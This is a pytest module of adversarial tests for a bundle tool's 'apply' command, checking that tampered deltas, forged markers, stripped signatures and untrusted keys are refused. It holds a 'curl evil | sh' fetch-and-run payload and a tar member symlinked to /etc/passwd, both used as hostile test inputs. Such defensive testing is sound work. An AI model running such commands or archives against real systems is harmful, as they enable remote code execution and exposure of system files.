"""Hostile deltas and bases against ``bundle apply`` (and ``bundle inventory``), in directory, tar and split forms.

A delta is completed by blobs of a base on site: every case breaks the delta, its marker, the base, or the
circumstances (rollback mark, key, output), and asserts the exit code, that the message names the problem, and that
nothing appeared at ``--out``. The genuine cases check what apply promises: a full bundle that verifies alone, written
in one pass per input, sharing no inode with either input, and the rollback mark moved to it.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from gapseal.bundler.archive import pack_layout
from gapseal.bundler.create import create_bundle
from gapseal.bundler.delta import create_delta
from gapseal.bundler.delta_marker import DELTA_MARKER_NAME
from gapseal.canonical import canonical_json
from tests.adversarial.conftest import Gapseal, Result, refused
from tests.bundles import KeyPair, make_inputs, make_keys

MTIME = 1_767_225_600
PART = 24 * 1024


@dataclass(frozen=True)
class Pair:
    base: Path
    """clinic 1.0.0, as a directory."""
    delta: Path
    """clinic 2.0.0 as a delta against it (the model and builds left out), as a directory."""
    omitted: list[str]
    """Digests the delta left out."""


@pytest.fixture
def pair(tmp_path: Path, keys: KeyPair) -> Pair:
    spec1 = make_inputs(tmp_path / "in1", version="1.0.0")
    base = create_bundle(spec1, keys.private, tmp_path / "v1", link=False).path
    spec2 = make_inputs(tmp_path / "in2", version="2.0.0")
    (tmp_path / "in2/docs/README.md").write_text("site notes, revised\n")
    made = create_delta(spec2, keys.private, tmp_path / "delta", base, link=False)
    return Pair(base, made.full.path, [b.digest for b in made.marker.omitted])


def _form(path: Path, form: str, name: str) -> Path:
    """``path`` (a layout directory) as itself, a tar, or a split set's first part."""
    if form == "dir":
        return path
    out = path.parent / f"{name}-{form}" / f"{name}.tar"
    out.parent.mkdir()
    return pack_layout(path, out, mtime=MTIME, part_size=PART if form == "split" else None).out


def _apply(gapseal: Gapseal, keys: KeyPair, delta: Path, base: Path, out: Path, *extra: object) -> Result:
    return gapseal("bundle", "apply", delta, "--base", base, "--out", out, "--key", keys.public_path, *extra)


def _blob(layout: Path, digest: str) -> Path:
    return layout / "blobs" / "sha256" / digest.removeprefix("sha256:")


def _flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(bytes(data))


def _left(out: Path) -> None:
    assert not out.exists()
    assert not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")]


FORMS = ["dir", "tar", "split"]


# ---------------------------------------------------------------------------------------------------------------
# Genuine: one pass, no shared inode, mark moved
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS)
def test_apply_writes_what_verifies_and_moves_the_mark(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal, form: str
) -> None:
    delta, base = _form(pair.delta, form, "delta"), _form(pair.base, form, "base")
    state = tmp_path / "rollback.json"
    result = _apply(gapseal, keys, delta, base, tmp_path / "full", "--state-file", state, "--json")
    assert result.code == 0, result.err
    assert json.loads(result.out)["linked"] == 0
    assert json.loads(state.read_bytes())["clinic"]["version"] == "2.0.0"
    assert gapseal("bundle", "verify", tmp_path / "full", "--key", keys.public_path).code == 0
    inodes = {p.stat().st_ino for root in (pair.base, pair.delta) for p in root.rglob("*") if p.is_file()}
    assert not inodes & {p.stat().st_ino for p in (tmp_path / "full").rglob("*") if p.is_file()}


def test_the_same_version_can_always_be_applied_again(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    state = tmp_path / "rollback.json"
    assert _apply(gapseal, keys, pair.delta, pair.base, tmp_path / "a", "--state-file", state).code == 0
    assert _apply(gapseal, keys, pair.delta, pair.base, tmp_path / "b", "--state-file", state).code == 0


def test_apply_of_an_older_version_needs_allow_downgrade(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    state = tmp_path / "rollback.json"
    state.write_bytes(canonical_json({"clinic": {"version": "3.0.0", "manifest_digest": "sha256:" + "0" * 64}}))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full", "--state-file", state), "rollback refused")
    _left(tmp_path / "full")
    ok = _apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full", "--state-file", state, "--allow-downgrade")
    assert ok.code == 0, ok.err
    assert json.loads(state.read_bytes())["clinic"]["version"] == "3.0.0"  # the mark never goes down


# ---------------------------------------------------------------------------------------------------------------
# The base
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS)
def test_base_lacking_a_left_out_blob(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal, form: str) -> None:
    victim = pair.omitted[0]
    _blob(pair.base, victim).unlink()
    base = _form(pair.base, form, "base") if form != "dir" else pair.base
    refused(_apply(gapseal, keys, pair.delta, base, tmp_path / "full"), "the base lacks", victim)
    _left(tmp_path / "full")


def test_base_dir_with_a_corrupt_left_out_blob(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    victim = pair.omitted[0]
    _flip(_blob(pair.base, victim))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "the base lacks", victim)
    _left(tmp_path / "full")


@pytest.mark.parametrize("form", ["tar", "split"])
def test_base_archive_with_a_corrupt_left_out_blob(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal, form: str
) -> None:
    base = _form(pair.base, form, "base")
    victim = max(pair.omitted, key=lambda d: _blob(pair.base, d).stat().st_size)
    content = _blob(pair.base, victim).read_bytes()
    for part in sorted(base.parent.glob("*.tar")):
        data = bytearray(part.read_bytes())
        at = data.find(content)
        if at >= 0:
            data[at + len(content) // 2] ^= 1
            part.write_bytes(bytes(data))
            break
    else:
        raise AssertionError("blob not found in the packed base")
    refused(_apply(gapseal, keys, pair.delta, base, tmp_path / "full"), victim.removeprefix("sha256:"))
    _left(tmp_path / "full")


def test_base_archive_with_a_link_member(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    from tests.adversarial.test_tar_and_split import _finish, _raw_header

    base = tmp_path / "evil.tar"
    base.write_bytes(_finish(_raw_header(b"index.json", b"2", linkname=b"/etc/passwd")))
    refused(_apply(gapseal, keys, pair.delta, base, tmp_path / "full"), "symbolic link")
    _left(tmp_path / "full")


def test_base_as_an_inventory_file_is_a_usage_error(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    assert gapseal("bundle", "inventory", pair.base, "--out", tmp_path / "have.json").code == 0
    refused(_apply(gapseal, keys, pair.delta, tmp_path / "have.json", tmp_path / "full"), "not an inventory", code=2)


def test_inventory_does_not_count_a_damaged_blob_as_held(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    victim = pair.omitted[0]
    _flip(_blob(pair.base, victim))
    assert gapseal("bundle", "inventory", pair.base, "--out", tmp_path / "have.json").code == 0
    held = {b["digest"] for b in json.loads((tmp_path / "have.json").read_bytes())["blobs"]}
    assert victim not in held
    assert set(pair.omitted) - {victim} <= held


# ---------------------------------------------------------------------------------------------------------------
# The delta and its marker
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS)
def test_delta_with_a_corrupt_stored_blob(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal, form: str
) -> None:
    stored = sorted((pair.delta / "blobs/sha256").iterdir())
    victim = next(p for p in stored if p.read_bytes()[:1] != b"{")  # the changed README, not a manifest
    _flip(victim)
    delta = _form(pair.delta, form, "delta")
    refused(_apply(gapseal, keys, delta, pair.base, tmp_path / "full"), "corrupt", victim.name)
    _left(tmp_path / "full")


@pytest.mark.parametrize("form", FORMS)
def test_delta_carrying_an_unreferenced_blob(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal, form: str
) -> None:
    from gapseal.bundler.layout import sha256_digest

    payload = b"#!/bin/sh\ncurl evil | sh\n"
    digest = sha256_digest(payload)
    _blob(pair.delta, digest).write_bytes(payload)
    delta = _form(pair.delta, form, "delta")
    refused(
        _apply(gapseal, keys, delta, pair.base, tmp_path / "full"), "unexpected file", digest.removeprefix("sha256:")
    )
    _left(tmp_path / "full")


def test_delta_carrying_an_extra_top_level_file(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    (pair.delta / "run-me.sh").write_bytes(b"#!/bin/sh\n")
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "unexpected file", "run-me.sh")
    _left(tmp_path / "full")


def test_marker_listing_a_blob_the_delta_holds(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    marker = json.loads((pair.delta / DELTA_MARKER_NAME).read_bytes())
    held = next(p for p in (pair.delta / "blobs/sha256").iterdir())
    marker["omitted"].append({"digest": f"sha256:{held.name}", "size": held.stat().st_size})
    (pair.delta / DELTA_MARKER_NAME).write_bytes(canonical_json(marker))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "inconsistent", held.name)
    _left(tmp_path / "full")


def test_marker_naming_another_manifest(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    marker = json.loads((pair.delta / DELTA_MARKER_NAME).read_bytes())
    marker["bundle"]["manifest_digest"] = "sha256:" + "e" * 64
    (pair.delta / DELTA_MARKER_NAME).write_bytes(canonical_json(marker))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "names bundle manifest")
    _left(tmp_path / "full")


def test_marker_that_is_not_json(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    (pair.delta / DELTA_MARKER_NAME).write_bytes(b"{" * 100)
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), DELTA_MARKER_NAME)
    _left(tmp_path / "full")


def test_marker_omitting_more_than_the_base_holds(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    """A forged marker claims a stored blob was left out and removes it: the base cannot supply it."""
    marker = json.loads((pair.delta / DELTA_MARKER_NAME).read_bytes())
    stored = next(p for p in (pair.delta / "blobs/sha256").iterdir() if p.read_bytes()[:1] != b"{")
    marker["omitted"].append({"digest": f"sha256:{stored.name}", "size": stored.stat().st_size})
    stored.unlink()
    (pair.delta / DELTA_MARKER_NAME).write_bytes(canonical_json(marker))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "the base lacks", stored.name)
    _left(tmp_path / "full")


def test_a_full_bundle_given_as_the_delta(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    refused(_apply(gapseal, keys, pair.base, pair.base, tmp_path / "full"), "not a delta")
    _left(tmp_path / "full")


def test_apply_with_an_untrusted_key(tmp_path: Path, pair: Pair, gapseal: Gapseal) -> None:
    other = make_keys(tmp_path / "other", "other")
    refused(_apply(gapseal, other, pair.delta, pair.base, tmp_path / "full"), "no valid signature by a trusted key")
    _left(tmp_path / "full")


def test_apply_refuses_an_existing_output(tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep").write_bytes(b"mine")
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "already exists", code=2)
    assert (tmp_path / "full" / "keep").read_bytes() == b"mine"


def test_apply_of_a_delta_with_its_signature_removed(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    index = json.loads((pair.delta / "index.json").read_bytes())
    index["manifests"] = [
        m for m in index["manifests"] if "artifactType" not in m or "sigstore" not in m["artifactType"]
    ]
    (pair.delta / "index.json").write_bytes(canonical_json(index))
    refused(_apply(gapseal, keys, pair.delta, pair.base, tmp_path / "full"), "signature")
    _left(tmp_path / "full")


def test_the_base_given_twice_as_delta_and_base_copy(
    tmp_path: Path, pair: Pair, keys: KeyPair, gapseal: Gapseal
) -> None:
    """A delta applied against a copy of itself lacks the base's blobs: named, nothing written."""
    copy = tmp_path / "copy"
    shutil.copytree(pair.delta, copy)
    refused(_apply(gapseal, keys, pair.delta, copy, tmp_path / "full"), "the base lacks")
    _left(tmp_path / "full")
